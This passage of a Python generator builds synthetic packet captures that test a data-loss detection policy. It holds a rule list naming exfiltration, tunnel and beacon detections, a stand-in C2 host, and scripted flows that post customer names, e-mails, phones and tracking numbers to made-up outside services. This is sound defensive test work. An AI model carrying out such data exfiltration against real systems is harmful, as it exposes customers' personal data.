#!/usr/bin/env python3
"""Deterministic policy scenarios: captures that make each rule of the default policy fire, beside benign
look-alikes that must not.

Runs beside ``captures/generate.py`` and ``captures/generate_content.py`` and reuses their machinery (hosts,
TCP simulation, framing, TLS records, the customer master).  Neither of them is changed, so their captures
stay byte-identical.  It writes, into ``--out`` (default: the directory of this script):

* ``policy-<scenario>.pcap``            one capture per scenario (see ``SCENARIOS``)
* ``expected/policy-<scenario>.json``   the dc-north manifest fields plus ``expected_alerts`` (signature id,
                                        local and remote address, the conversations the finding covers) and
                                        ``benign_flows`` (every other conversation: none of them may be
                                        covered by an alert)

The default policy is ``signatures/rules/default.yaml``.  The bundled dc-north and content captures already
make 1000001, 1000002, 1000004, 1000010, 1000020, 1000030, 1000040 and 1000050 fire; these scenarios add the
others:

* ``data``      1000011 (tracking numbers without records), 1000001 and, with a fingerprint of the customer
                master in ``signatures/edm/``, 1000003 (EDM); look-alikes: internal CSV copy, allow-listed
                carrier and partner APIs carrying shipments, an inbound web page full of e-mail addresses
* ``volume``    1000030, 1000031 (encrypted uploads to a foreign cloud), 1000032 (upload volume to one
                domain); look-alikes: allow-listed bulk upload, internal backup, software-update download.
                The captures of elephant flows are *shunted* (below)
* ``icmp``      1000060 (ICMP tunnel); look-alikes: monitoring pings, Windows pings, internal pings
* ``benign``    nothing may fire: an hour of TLS browsing to CDN names (one name visited irregularly many
                times), their DNS lookups, and apt downloading a package
* ``beacon``    1000070 (a TLS beacon every 60 s +/- 1 s for 2 hours); look-alikes: NTP polls every 64 s to
                two servers (one without a destination group), an allow-listed carrier API polled every 10 min
* ``long``      1000080 (a reverse SSH tunnel held open for 3 hours); look-alikes: Slack's websocket
                (messaging), an allow-listed partner event stream, an internal AMQPS connection

Shunting.  The ``volume`` capture carries 10-200 MB flows in a few KB: it was taken behind a packet broker
that *shunts* elephant flows, as Zeek clusters do (the sensor asks the broker to drop a flow's packets once
its analyzers are done) while packets with SYN, FIN or RST still pass.  Each big flow shows its handshake,
the first ``SHUNT_AFTER`` bytes of the bulk transfer, then only the FINs, whose sequence numbers give the
true sizes (Zeek's conn.log sizes come from sequence space).  The manifest rows count those sizes and give
the unseen part as ``shunted_bytes``.

Everything is a pure function of the constants here and in generate.py (seed, base time): no clock, no
``random`` beyond ``Rng``, random-looking bytes from SHAKE-256.  ``tests/test_policy_e2e.py`` regenerates and
compares by sha256, then scans every capture with the real CLI.
"""
from __future__ import annotations

import argparse
import base64
import json
import struct
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import generate as g  # noqa: E402  (captures/generate.py, imported as a module)
import generate_content as gc  # noqa: E402
from generate import MS, SEC, Capture, Conversation, Host, Rng, TcpFlow, _host, det_bytes  # noqa: E402
from scapy import VERSION as SCAPY_VERSION  # noqa: E402
from scapy.layers.dns import DNS, DNSQR, DNSRROPT  # noqa: E402
from scapy.layers.inet import ICMP, TCP  # noqa: E402
from scapy.packet import Raw  # noqa: E402

GENERATOR = "captures/generate_policy.py"
POLICY_FORMAT = 1
MIN = 60 * SEC
HOUR = 3600 * SEC
#: 2025-11-25T12:00:00Z, after the content captures of the morning
T_POLICY = 20 * HOUR
#: a shunted flow shows this many bytes of its bulk transfer before the broker drops it
SHUNT_AFTER = 8192

#: the rules of signatures/rules/default.yaml (id -> (name, severity)); tests check they agree
RULES = {
    1000001: ("customer-records-to-unlisted", "high"),
    1000002: ("customer-identifiers-to-unlisted", "medium"),
    1000003: ("edm-rows-to-unlisted", "critical"),
    1000004: ("bulk-customer-records-per-country", "critical"),
    1000010: ("shipment-records-to-foreign-or-unknown", "high"),
    1000011: ("shipment-identifiers-to-foreign-or-unknown", "medium"),
    1000020: ("edi-to-unlisted", "high"),
    1000030: ("encrypted-upload-foreign-or-unknown", "high"),
    1000031: ("encrypted-uploads-per-org-foreign-or-unknown", "medium"),
    1000032: ("upload-volume-per-domain", "medium"),
    1000033: ("hidden-name-upload-foreign-cloud", "low"),
    1000040: ("slow-drip", "medium"),
    1000050: ("dns-tunnel", "high"),
    1000060: ("icmp-tunnel", "high"),
    1000070: ("beacon", "medium"),
    1000080: ("long-connection", "low"),
}

# --------------------------------------------------------------------------
# Hosts: the dc-north and content ones plus the policy scenarios' peers
# --------------------------------------------------------------------------

H = dict(gc.H)
H.update({
    # local
    "pc31": _host("ops-pc-31", "172.20.10.31", None),            # office PC, no role in the site file
    "mon": _host("mon-01", "172.20.0.60", "infra"),               # monitoring server
    "mq": _host("mq-01", "172.20.3.16", None),                    # message broker (AMQPS)
    # outside, made up (documentation ranges)
    "c2": _host("update.telemetry-sync.example", "203.0.113.77", "external", ttl=47),
    "icmp_relay": _host("203.0.113.66", "203.0.113.66", "external", ttl=51),
    "ssh_relay": _host("192.0.2.222", "192.0.2.222", "external", ttl=53),
    "lookup": _host("api.parcel-lookup.example", "192.0.2.141", "external", ttl=50),
    "survey": _host("forms.survey-tool.example", "203.0.113.150", "external", ttl=49),
    # outside, public services (addresses only used as labels)
    "nist": _host("time-a.nist.gov", "129.6.15.28", "external", ttl=52),
    "gdns": _host("dns.google", "8.8.8.8", "external", ttl=118),
    "cf_dns": _host("one.one.one.one", "1.1.1.1", "external", ttl=58),
    "oss_hk": _host("dcn-archive-5b2e.oss-cn-hongkong.aliyuncs.com", "47.246.140.9", "external", ttl=44),
    "gapis": _host("www.googleapis.com", "142.250.74.106", "external", ttl=117),
    "winupd": _host("download.windowsupdate.com", "13.107.4.50", "external", ttl=115),
    "ubuntu": _host("archive.ubuntu.com", "91.189.91.83", "external", ttl=50),
    "slack": _host("wss-primary.slack.com", "18.66.2.10", "external", ttl=241),
    "ups_www": _host("www.ups.com", "153.2.228.10", "external", ttl=51),
})

RTT = {"c2": 88 * MS, "icmp_relay": 61 * MS, "ssh_relay": 42 * MS, "lookup": 30 * MS, "survey": 36 * MS,
       "nist": 71 * MS, "ntp": 9 * MS, "gdns": 8 * MS, "cf_dns": 7 * MS, "oss_hk": 182 * MS, "gapis": 9 * MS,
       "winupd": 12 * MS, "ubuntu": 23 * MS, "slack": 14 * MS, "ups": 24 * MS, "partner": 18 * MS,
       "web": 41 * MS, "cdn": 6 * MS, "google": 9 * MS}
LAN_RTT = 260

#: DNS data of the policy scenarios (name -> qtype -> answer RRs), served by the site resolver
ZONE: dict = dict(g.ZONE)
ZONE.update({
    "update.telemetry-sync.example": {"A": [("update.telemetry-sync.example", "A", 300, "203.0.113.77")]},
    "api.parcel-lookup.example": {"A": [("api.parcel-lookup.example", "A", 300, "192.0.2.141")]},
    "forms.survey-tool.example": {"A": [("forms.survey-tool.example", "A", 300, "203.0.113.150")]},
    "www.parts-supplier.example": {"A": [("www.parts-supplier.example", "A", 3600, "203.0.113.120")]},
    "time-a.nist.gov": {"A": [("time-a.nist.gov", "A", 3600, "129.6.15.28")]},
    "archive.ubuntu.com": {"A": [("archive.ubuntu.com", "A", 60, "91.189.91.83")]},
    "dcn-archive-5b2e.oss-cn-hongkong.aliyuncs.com": {"A": [
        ("dcn-archive-5b2e.oss-cn-hongkong.aliyuncs.com", "CNAME", 600, "oss-cn-hongkong.aliyuncs.com"),
        ("oss-cn-hongkong.aliyuncs.com", "A", 60, "47.246.140.9")]},
    "www.googleapis.com": {"A": [("www.googleapis.com", "A", 300, "142.250.74.106")]},
    "download.windowsupdate.com": {"A": [
        ("download.windowsupdate.com", "CNAME", 3600, "download.windowsupdate.com.edgesuite.net"),
        ("download.windowsupdate.com.edgesuite.net", "A", 60, "13.107.4.50")]},
    "wss-primary.slack.com": {"A": [("wss-primary.slack.com", "CNAME", 300, "wss-primary.l.slack-msgs.com"),
                                    ("wss-primary.l.slack-msgs.com", "A", 60, "18.66.2.10")]},
})

#: the browsing scenario: name -> (address, CNAME target or None, TTL)
CDN = {
    "www.google.com": ("142.250.74.100", None, 300),
    "www.gstatic.com": ("142.250.74.99", None, 300),
    "fonts.googleapis.com": ("142.250.74.106", None, 300),
    "fonts.gstatic.com": ("142.250.74.99", None, 300),
    "cdnjs.cloudflare.com": ("104.16.132.229", None, 300),
    "cdn.jsdelivr.net": ("151.101.1.229", "jsdelivr.map.fastly.net", 3600),
    "github.githubassets.com": ("185.199.108.154", None, 3600),
    "ajax.aspnetcdn.com": ("13.107.246.40", "mscomajax.vo.msecnd.net", 3600),
    "login.microsoftonline.com": ("20.190.151.6", "login.mso.msidentity.com", 300),
    "d1x7f2a9k3lq0z.cloudfront.net": ("52.84.150.10", None, 60),
    "www.ups.com": ("153.2.228.10", None, 300),
}
for _name, (_ip, _cname, _ttl) in CDN.items():
    if _cname:
        ZONE[_name] = {"A": [(_name, "CNAME", _ttl, _cname), (_cname, "A", 60, _ip)]}
    else:
        ZONE[_name] = {"A": [(_name, "A", _ttl, _ip)]}
    H.setdefault(f"cdn:{_name}", _host(_name, _ip, "external", ttl=56))


# --------------------------------------------------------------------------
# Capture with the policy manifest
# --------------------------------------------------------------------------

class PolicyCapture(Capture):
    """A dc-north Capture whose manifest says which alerts must fire and which flows must stay quiet."""

    def __init__(self, scenario: str, description: str):
        super().__init__(f"policy-{scenario}.pcap", f"p{scenario[:3]}", description)
        self.scenario = scenario
        self.alerts: list = []       # (sid, [conversations], why)
        self.edm_alerts: list = []   # the same, for alerts that need an EDM fingerprint in <signatures>/edm/
        self.benign: dict = {}       # id(conv) -> (look_alike_of, why)

    def expect(self, sid: int, convs, why: str) -> None:
        """An alert of rule ``sid`` covering exactly these conversations (one finding)."""
        assert sid in RULES, sid
        convs = list(convs)
        assert convs and len({c.orig.ip for c in convs}) == 1
        self.alerts.append((sid, convs, why))

    def expect_with_edm(self, sid: int, convs, why: str) -> None:
        """An alert that fires only when ``<signatures>/edm/`` holds a fingerprint of the customer master."""
        self.edm_alerts.append((sid, list(convs), why))

    def quiet(self, convs, why: str, look_alike_of=()) -> None:
        """Conversations that no alert may cover; ``look_alike_of``: the rules they resemble."""
        if isinstance(convs, Conversation):
            convs = [convs]
        for c in convs:
            self.benign[id(c)] = (sorted(look_alike_of), why)

    def manifest(self, frames) -> dict:
        convs = sorted(self.convs, key=lambda c: min(p[0] for p in c.packets))
        rows = [summarize(c) for c in convs]
        ids = {}
        for i, (c, r) in enumerate(zip(convs, rows), 1):
            r["id"] = f"{self.short}-{i:03d}"
            ids[id(c)] = r["id"]
        rows = [{"id": r.pop("id"), **r} for r in rows]
        total = len(frames)
        assert total == sum(r["orig_pkts"] + r["resp_pkts"] for r in rows)
        hello = [(t, meta["sni"]) for c in self.convs for t, _f, _p, meta in c.packets if meta.get("sni")]
        by_id = {r["id"]: r for r in rows}
        alerted = set()

        def listed(alerts):
            out = []
            for sid, cs, why in sorted(alerts, key=lambda a: (a[0], a[1][0].orig.ip,
                                                               min(p[0] for p in a[1][0].packets))):
                last = max(cs, key=lambda c: min(p[0] for p in c.packets))
                out.append({
                    "signature_id": sid, "rule": RULES[sid][0], "severity": RULES[sid][1],
                    "src_ip": cs[0].orig.ip, "dest_ip": last.resp.ip, "dest_port": last.resp_p,
                    "flows": sorted(ids[id(c)] for c in cs), "why": why,
                })
                alerted.update(ids[id(c)] for c in cs)
            return out

        expected = listed(self.alerts)
        expected_edm = listed(self.edm_alerts)
        benign = []
        for c in convs:
            cid = ids[id(c)]
            if cid in alerted:
                assert id(c) not in self.benign, f"{cid} is both alerted and benign"
                continue
            look, why = self.benign.get(id(c), ([], _default_why(c)))
            r = by_id[cid]
            benign.append({"id": cid, "proto": r["proto"], "orig_h": r["orig_h"], "orig_p": r["orig_p"],
                           "resp_h": r["resp_h"], "resp_p": r["resp_p"], "look_alike_of": look, "why": why})
        return {
            "capture": self.name,
            "description": self.description,
            "generator": GENERATOR,
            "policy_format": POLICY_FORMAT,
            "scenario": self.scenario,
            "scapy_version": SCAPY_VERSION,
            "seed": g.SEED,
            "site": g.SITE,
            "rules": "signatures/rules/default.yaml",
            "first_ts": g._ts(frames[0][0]),
            "last_ts": g._ts(frames[-1][0]),
            "packet_count": total,
            "tcp_conversations": sum(1 for r in rows if r["proto"] == "tcp"),
            "udp_conversations": sum(1 for r in rows if r["proto"] == "udp"),
            "icmp_conversations": sum(1 for r in rows if r["proto"] == "icmp"),
            "tls_server_names": [s for _t, s in sorted(hello)],
            "expected_alerts": expected,
            "expected_alerts_with_edm": expected_edm,
            "benign_flows": benign,
            "conversations": rows,
        }


def _default_why(c: Conversation) -> str:
    if c.app == "dns":
        return "DNS lookup of an ordinary name (site resolver, or its recursion to 9.9.9.9)"
    return c.description


def summarize(conv: Conversation) -> dict:
    """generate.summarize, plus shunted TCP flows: their sizes run to the FIN's sequence number."""
    shunted = getattr(conv, "shunted", False)
    if not shunted:
        row = g.summarize(conv)
        row["shunted_bytes"] = 0
        return row
    isn, ranges, fin_rel = {}, {True: [], False: []}, {True: 0, False: 0}
    pkts, ip_bytes = {True: 0, False: 0}, {True: 0, False: 0}
    for _t, fo, pkt, _meta in conv.packets:
        pkts[fo] += 1
        ip_bytes[fo] += g._ip_len(pkt)
        tcp = pkt[TCP]
        if tcp.flags.S:
            isn[fo] = tcp.seq
        rel = (tcp.seq - isn[fo] - 1) % 2**32
        n = g._payload_len(pkt, "tcp")
        if n:
            ranges[fo].append((rel, rel + n))
        if tcp.flags.F:
            fin_rel[fo] = rel
    payload, unseen = {}, {}
    for side in (True, False):
        covered, _contiguous = g._union_len(ranges[side])
        end = max([b for _a, b in ranges[side]] + [fin_rel[side]])
        payload[side], unseen[side] = end, end - covered
    state = g._tcp_state(conv)
    assert state == conv.conn_state, (conv.key(), state)
    times = [p[0] for p in conv.packets]
    return {
        "ts": g._ts(min(times)), "duration": round((max(times) - min(times)) / SEC, 6),
        "proto": "tcp", "orig_h": conv.orig.ip, "orig_p": conv.orig_p, "resp_h": conv.resp.ip,
        "resp_p": conv.resp_p, "orig_pkts": pkts[True], "resp_pkts": pkts[False],
        "orig_bytes": payload[True], "resp_bytes": payload[False],
        "orig_ip_bytes": ip_bytes[True], "resp_ip_bytes": ip_bytes[False],
        "conn_state": conv.conn_state, "vlan": conv.vlan, "ip_version": 6 if conv.orig.v6 else 4,
        "app": conv.app, "server_name": conv.server_name, "retransmissions": 0, "out_of_order": 0,
        "orig_role": conv.orig.role, "resp_role": conv.resp.role, "description": conv.description,
        "shunted_bytes": unseen[True] + unseen[False],
    }


class ShuntedFlow(TcpFlow):
    """A TcpFlow behind a packet broker that shunts it: after ``shunt`` only SYN/FIN/RST packets reach the tap."""

    shunting = False

    def _emit(self, t, from_client, flags, seq, ack, payload=b"", options=None, window=None, **meta):
        if self.shunting and not any(f in flags for f in "SFR"):
            return
        super()._emit(t, from_client, flags, seq, ack, payload, options, window, **meta)

    def bulk(self, from_client: bool, nbytes: int, *, bps: int, think: int = 0):
        """``nbytes`` more of one side's data, sent at ``bps`` bits/s while the broker drops the flow."""
        snd, rcv = (self.c, self.s) if from_client else (self.s, self.c)
        self._flush_pending({from_client: self.t + think, not from_client: self.t + think})
        self.shunting = True
        self.conv.shunted = True
        snd.nxt += nbytes
        rcv.rcv = snd.nxt
        self.t += think + max(1, nbytes * 8 * SEC // bps)
        return self


# --------------------------------------------------------------------------
# DNS: the site resolver with this generator's zone
# --------------------------------------------------------------------------

class Resolver(g.Resolver):
    """generate.Resolver answering from ``ZONE`` above (the same code, another zone)."""

    def lookup(self, client: Host, name: str, qtype: str, t: int, *, vlan=None) -> int:
        records = ZONE.get(name, {}).get(qtype) or []
        rcode = 0 if name in ZONE else 3
        ttl = min((r[2] for r in records), default=300)
        cport = self.cap.ports.take(client)
        txid = self.rng.randint(1, 0xFFFF)
        query = DNS(id=txid, rd=1, qd=[DNSQR(qname=name + ".", qtype=qtype)])
        expiry = self.cache.get((name, qtype))
        if expiry is not None and expiry > t:
            answer = DNS(id=txid, qr=1, rd=1, ra=1, rcode=rcode, qd=[DNSQR(qname=name + ".", qtype=qtype)],
                         an=self._rrs(records, (expiry - t) // SEC))
            delay = 180 + self.rng.randint(0, 120)
            desc = f"DNS {qtype} {name} (resolver cache hit)"
        else:
            up_t = t + 90 + self.rng.randint(0, 60)
            up_rtt = 11 * MS + self.rng.randint(0, 4 * MS)
            up_id = self.rng.randint(1, 0xFFFF)
            up_port = self.cap.ports.take(self.host)
            up_q = DNS(id=up_id, rd=1, qd=[DNSQR(qname=name + ".", qtype=qtype)], ar=[DNSRROPT(rclass=1232)])
            up_a = DNS(id=up_id, qr=1, rd=1, ra=1, rcode=rcode, qd=[DNSQR(qname=name + ".", qtype=qtype)],
                       an=self._rrs(records), ar=[DNSRROPT(rclass=1232)])
            g.udp_exchange(self.cap, self.host, H["quad9"], up_port, 53, [(up_t, up_q, up_rtt, up_a)],
                           app="dns", description=f"resolver recursion: {qtype} {name} to upstream 9.9.9.9")
            answer = DNS(id=txid, qr=1, rd=1, ra=1, rcode=rcode, qd=[DNSQR(qname=name + ".", qtype=qtype)],
                         an=self._rrs(records))
            delay = (up_t - t) + up_rtt + 70
            if rcode == 0:
                self.cache[(name, qtype)] = t + delay + ttl * SEC
            desc = f"DNS {qtype} {name} (resolver cache miss)"
        g.udp_exchange(self.cap, client, self.host, cport, 53, [(t, query, delay, answer)], app="dns",
                       description=desc, vlan=vlan)
        return t + delay


class ClientCache:
    """A client's stub resolver cache: look a name up only when its TTL has run out."""

    def __init__(self, dns: Resolver, client: Host):
        self.dns, self.client, self.until = dns, client, {}

    def resolve(self, name: str, t: int) -> int:
        if self.until.get(name, -1) > t:
            return t
        done = self.dns.lookup(self.client, name, "A", t)
        ttl = min(r[2] for r in ZONE[name]["A"])
        self.until[name] = done + ttl * SEC
        return done


# --------------------------------------------------------------------------
# TLS, SSH, ICMP, NTP helpers
# --------------------------------------------------------------------------

def tls_open(flow: TcpFlow, label: str, sni: str, *, cert_size: int = 3300, resume: bytes | None = None):
    """TCP handshake, ClientHello and the server's flight; the client's Finished rides on its first write."""
    flow.connect()
    flow.send(True, g.tls_client_hello(label, sni, psk_identity=resume), think=40, sni=sni)
    enc = g.tls_app_data(f"{label}:cert", cert_size) if resume is None else g.tls_app_data(f"{label}:ee", 23)
    flow.send(False, g.tls_server_hello(label, psk=resume is not None) + g.TLS_CCS + enc
              + g.tls_app_data(f"{label}:sfin", 53), think=900)
    flow.tls_label = label
    flow.tls_first = True
    flow.tls_resumed = resume is not None
    flow.tls_n = 0
    return flow


def tls_write(flow: TcpFlow, from_client: bool, size: int, think: int, **send_kw):
    """One application write of ``size`` bytes of ciphertext (client Finished / tickets on the first ones);
    ``send_kw`` (``lose_last``, ``swap``) go to ``TcpFlow.send``."""
    label = f"{flow.tls_label}:w{flow.tls_n}"
    flow.tls_n += 1
    data = g.tls_app_data(label, size)
    if from_client and flow.tls_first:
        data = g.TLS_CCS + g.tls_app_data(f"{flow.tls_label}:cfin", 53) + data
        flow.tls_first = False
        flow.tls_tickets = True
    elif not from_client and getattr(flow, "tls_tickets", False):
        nst = g.tls_app_data(f"{flow.tls_label}:nst0", 249)
        if not flow.tls_resumed:
            nst += g.tls_app_data(f"{flow.tls_label}:nst1", 249)
        data = nst + data
        flow.tls_tickets = False
    flow.send(from_client, data, think=think, **send_kw)
    return flow


def tls_close(flow: TcpFlow, think: int = 2 * MS, by_client: bool = True):
    flow.send(by_client, g.tls_app_data(f"{flow.tls_label}:alert", 19), think=think)  # close_notify
    flow.close(by_client=by_client, think=60)
    return flow


def ssh_string(b: bytes) -> bytes:
    return struct.pack("!I", len(b)) + b


def ssh_packet(label: str, payload: bytes) -> bytes:
    """An unencrypted SSH binary packet (RFC 4253 6), block size 8."""
    pad = 8 - (5 + len(payload)) % 8
    if pad < 4:
        pad += 8
    return struct.pack("!IB", 1 + len(payload) + pad, pad) + payload + det_bytes(f"{label}:pad", pad)


def ssh_kexinit(label: str, server: bool) -> bytes:
    lists = [
        b"curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group16-sha512"
        + (b",kex-strict-s-v00@openssh.com" if server else b",ext-info-c,kex-strict-c-v00@openssh.com"),
        b"rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256,ssh-ed25519" if server else
        b"ssh-ed25519-cert-v01@openssh.com,ssh-ed25519,ecdsa-sha2-nistp256,rsa-sha2-512,rsa-sha2-256",
    ] + [b"chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,"
         b"aes256-gcm@openssh.com"] * 2 + [
        b"umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,"
        b"hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com"] * 2 + [b"none,zlib@openssh.com"] * 2 + [b""] * 2
    body = b"\x14" + det_bytes(f"{label}:cookie", 16) + b"".join(ssh_string(x) for x in lists) + b"\x00" + bytes(4)
    return ssh_packet(f"{label}:kexinit", body)


def ssh_enc(label: str, plain_len: int) -> bytes:
    """An encrypted chacha20-poly1305 packet: 4-byte length, payload padded to 8, 16-byte tag."""
    n = plain_len + 1
    pad = 8 - n % 8
    if pad < 4:
        pad += 8
    return det_bytes(label, 4 + n + pad + 16)


def linux_ping_payload(t_us: int) -> bytes:
    sec, usec = divmod(g.BASE_TS * SEC + t_us, SEC)
    return struct.pack("<QQ", sec, usec) + bytes(range(0x10, 0x38))


WINDOWS_PING = b"abcdefghijklmnopqrstuvwabcdefghi"


def icmp_echo(cap: Capture, src: Host, dst: Host, ident: int, pings, description: str) -> Conversation:
    """Echo requests and their replies: ``pings`` = [(t, request data, rtt, reply data or None)]."""
    conv = cap.add(Conversation("icmp", src, dst, 8, 0, "OTH", "icmp", description))
    for i, (t, req, rtt, rep) in enumerate(pings):
        conv.packets.append((t, True, cap.frame(conv, True, ICMP(type=8, id=ident, seq=i + 1) / Raw(req)), {}))
        if rep is not None:
            conv.packets.append((t + rtt, False,
                                 cap.frame(conv, False, ICMP(type=0, id=ident, seq=i + 1) / Raw(rep)), {}))
    return conv


def _ntp_ts(t_us: int) -> bytes:
    s, us = divmod(g.BASE_TS * SEC + t_us, SEC)
    return struct.pack("!II", s + 2208988800, (us << 32) // SEC)


def ntp_poll(cap: Capture, client: Host, server: Host, t: int, rtt: int, stratum: int, ref_id: bytes,
             description: str) -> Conversation:
    """One chronyd client poll (NTPv4 mode 3 from a fresh ephemeral port) and the server's answer."""
    req = b"\x23\x00\x06\xe9" + bytes(12) + bytes(24) + _ntp_ts(t)
    t_srv = t + rtt // 2
    resp = (bytes([0x24, stratum, 0x06, 0xE7]) + struct.pack("!II", 0x00000010 * stratum, 0x00000020 * stratum)
            + ref_id + _ntp_ts(t_srv - 16 * SEC) + _ntp_ts(t) + _ntp_ts(t_srv) + _ntp_ts(t_srv + 21))
    cport = cap.ports.take(client)
    return g.udp_exchange(cap, client, server, cport, 123, [(t, req, rtt, resp)], app="ntp",
                          description=description)


# --------------------------------------------------------------------------
# Scenarios
# --------------------------------------------------------------------------

def build_data() -> PolicyCapture:
    """Content rules: tracking numbers without records (1000011), customer rows of the master (1000001/3)."""
    cap = PolicyCapture("data", "policy (data): tracking numbers and customer rows sent to unknown sites, "
                                "beside an internal CSV copy, allow-listed carrier/partner APIs and an inbound "
                                "page of e-mail addresses")
    dns = Resolver(cap)
    rng = Rng("policy:data")
    t0 = T_POLICY

    # 1. a script posts 40 UPS tracking numbers, one per line, to a third-party lookup service: 1000011
    t = dns.lookup(H["wms2"], "api.parcel-lookup.example", "A", t0)
    numbers = [gc.tracking_for(gc.MASTER[i]) for i in range(600, 640)]
    flow = TcpFlow(cap, H["wms2"], H["lookup"], 80, t=t + 300, srv_rtt=RTT["lookup"], gap=110, app="http",
                   description="POST /v1/track (text/plain): 40 UPS tracking numbers, no customer data")
    flow.connect()
    flow.send(True, gc.http_req("POST", "/v1/track?carrier=ups", "api.parcel-lookup.example",
                                [("User-Agent", "python-requests/2.32.3"), ("Accept", "application/json"),
                                 ("Content-Type", "text/plain; charset=utf-8")],
                                ("\n".join(numbers) + "\n").encode()), think=250)
    status = [{"tracking_number": n, "status": rng.choice(["IN_TRANSIT", "OUT_FOR_DELIVERY", "DELIVERED"])}
              for n in numbers]
    flow.send(False, gc.http_resp(flow.t, "200 OK", [("Content-Type", "application/json"), ("Server", "nginx")],
                                  g.jbytes({"results": status})), think=140 * MS)
    flow.close(by_client=True, think=30 * MS)
    cap.expect(1000011, [flow.conv], "40 distinct tracking numbers (>= 20), no record structure (text/plain), "
                                     "to an unknown destination")

    # 2. a survey tool gets 12 customers of the master (name, e-mail, phone): 1000001, and 1000003 with EDM
    t = dns.lookup(H["wms1"], "forms.survey-tool.example", "A", t0 + 40 * SEC)
    custs = [gc.MASTER[i] for i in range(985, 997)]
    body = json.dumps({"survey": "delivery-satisfaction-2025-11", "recipients": [
        {"name": c.name, "email": c.email, "phone": c.phone_e164, "locale": "en-US" if c.country == "US" else "en-GB"}
        for c in custs]}, ensure_ascii=False).encode()
    flow = TcpFlow(cap, H["wms1"], H["survey"], 80, t=t + 250, srv_rtt=RTT["survey"], gap=110, app="http",
                   description="POST /api/recipients (JSON): 12 customers of the master (name, e-mail, phone)")
    flow.connect()
    flow.send(True, gc.http_req("POST", "/api/recipients", "forms.survey-tool.example",
                                [("User-Agent", "wms-notify/1.3"), ("Content-Type", "application/json"),
                                 ("Authorization", "Bearer test_00000000000000000000")], body), think=200)
    flow.send(False, gc.http_resp(flow.t, "201 Created", [("Content-Type", "application/json")],
                                  g.jbytes({"imported": len(custs)})), think=90 * MS)
    flow.close(by_client=True, think=15 * MS)
    cap.expect(1000001, [flow.conv], "12 customer records (JSON objects with name, e-mail, phone) to a "
                                     "destination that is not allow-listed")
    cap.expect_with_edm(1000003, [flow.conv], "12 rows of the customer master (name, e-mail and phone each) "
                                              "when signatures/edm/ holds its fingerprint (inspector fingerprint "
                                              "customers.csv --columns email,phone,name --classes email=email,"
                                              "phone=phone,name=person_name --region US)")

    # 3. look-alike: the same kind of data to backup-01, inside the site
    custs = [gc.MASTER[i] for i in range(0, 200)]
    csv_body = gc.customers_csv(custs, gc.CSV_COLUMNS, phone="intl")
    flow = TcpFlow(cap, H["wms2"], H["backup"], 80, t=t0 + 70 * SEC, srv_rtt=LAN_RTT, gap=14, app="http",
                   description="HTTP PUT of a 200-customer CSV to backup-01 (internal)")
    flow.connect()
    flow.send(True, gc.http_req("PUT", "/exports/customers-20251125-1200.csv", "backup-01.dc-north.corp",
                                [("User-Agent", "curl/8.5.0"), ("Content-Type", "text/csv")], csv_body), think=150)
    flow.send(False, gc.http_resp(flow.t, "201 Created", [("Server", "nginx")], b""), think=3 * MS)
    flow.close(by_client=True, think=2 * MS)
    cap.quiet(flow.conv, "200 customer records, but 172.20.1.11 -> 172.20.2.20 stays inside the site "
                         "(direction internal)", look_alike_of=(1000001, 1000004))

    # 4. look-alike: shipment JSON to the allow-listed carrier API, over TLS (SNI api.ups.com)
    t = dns.lookup(H["wms1"], "api.ups.com", "A", t0 + 100 * SEC)
    flow = tls_open(TcpFlow(cap, H["wms1"], H["ups_api"], 443, t=t + 300, srv_rtt=RTT["ups"], gap=110, app="tls",
                            server_name="api.ups.com",
                            description="UPS Shipping API over TLS (SNI api.ups.com): 3 shipment requests"),
                    "policy:data:ups", "api.ups.com")
    for i in range(3):
        tls_write(flow, True, rng.randint(2400, 3100), think=300 if i == 0 else 800 * MS)
        tls_write(flow, False, rng.randint(6000, 9000), think=rng.randint(300, 600) * MS)
    tls_close(flow)
    cap.quiet(flow.conv, "shipments to UPS: allow-listed (ups.com) and a carrier", look_alike_of=(1000030,))

    # 5. look-alike: shipment + consignee JSON to the allow-listed partner API, in clear (HTTP)
    t = dns.lookup(H["wms3"], "api.partner.example", "A", t0 + 130 * SEC)
    custs = [gc.MASTER[i] for i in range(640, 660)]
    body = json.dumps({"batch_id": "B-DCN-20251125-077", "site": g.SITE,
                       "shipments": [gc.shipment_json(c) for c in custs]}, ensure_ascii=False).encode()
    flow = TcpFlow(cap, H["wms3"], H["partner"], 80, t=t + 250, srv_rtt=RTT["partner"], gap=110, app="http",
                   description="partner API: POST of 20 shipments with consignees (JSON, in clear)")
    flow.connect()
    flow.send(True, gc.http_req("POST", "/v2/shipments", "api.partner.example",
                                [("User-Agent", "wms-connector/2.4.1"), ("Content-Type", "application/json"),
                                 ("X-Api-Key", "test_0000000000000000000000000000")], body), think=150)
    flow.send(False, gc.http_resp(flow.t, "200 OK", [("Content-Type", "application/json")],
                                  g.jbytes({"accepted": len(custs), "rejected": 0})), think=45 * MS)
    flow.close(by_client=True, think=300 * MS)
    cap.quiet(flow.conv, "20 shipment and customer records to api.partner.example, which the site file "
                         "allow-lists", look_alike_of=(1000001, 1000010, 1000003))

    # 6. look-alike: an inbound web page with 25 e-mail addresses and phone numbers
    t = dns.lookup(H["ops_pc"], "www.parts-supplier.example", "A", t0 + 160 * SEC)
    people = [gc.MASTER[i] for i in range(700, 725)]
    rows = "\n".join(f"<tr><td>{c.name}</td><td><a href=\"mailto:{c.email}\">{c.email}</a></td>"
                     f"<td>{c.phone_intl}</td></tr>" for c in people)
    html = (f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Dealers</title></head>\n<body>\n"
            f"<h1>Authorised dealers</h1>\n<table>\n{rows}\n</table>\n</body></html>\n").encode()
    flow = TcpFlow(cap, H["ops_pc"], H["web"], 80, t=t + 200, srv_rtt=RTT["web"], gap=110, app="http",
                   description="browser GET of a dealer list: 25 names, e-mail addresses and phones come in")
    flow.connect()
    flow.send(True, gc.http_req("GET", "/dealers.html", "www.parts-supplier.example",
                                [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 "
                                                "Firefox/133.0"), ("Accept", "text/html")]), think=200)
